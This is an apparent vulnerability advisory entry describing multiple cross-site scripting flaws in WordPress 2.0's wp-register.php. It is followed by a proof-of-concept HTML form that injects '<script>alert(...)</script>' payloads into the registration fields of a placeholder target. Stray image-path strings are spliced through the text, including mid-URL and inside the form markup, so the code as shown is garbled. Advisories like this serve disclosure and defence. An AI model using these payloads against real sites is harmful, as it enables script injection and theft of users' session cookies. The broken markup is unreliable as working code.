WordPress 2.0 wp-register.php Multiple Cross-Site Scripting Vulnerabilities

ID SSV:83977
Type seebug
Reporter Root
Modified 2014-07-01T00:00:00


No description provided by source.

                                                source: http://www.securityfocus.com/bid/25769/info

WordPress is prone to multiple cross-site scripting vulnerabilities because it fails to properly sanitize user-supplied input.

An attacker may leverage these issues to execute arbitrary script code in the browser of anunsuspecting user in the context of the affected site. This may allow the attacker to steal cookie-based authentication credentials and to launch other attacks.

This issue affects WordPress 2.0; other versions may also be affected.


<formmethod="post" action="http://target/wordpress/wp-register.php" >
<input type="hidden" name="action" value="register" />
<input type="hidden" name="user_login" id="user_login"value='"><script>alert(1)</script>' />
<input type="hidden" name="user_email" id="user_email"value='"><script>alert(2)</script>' />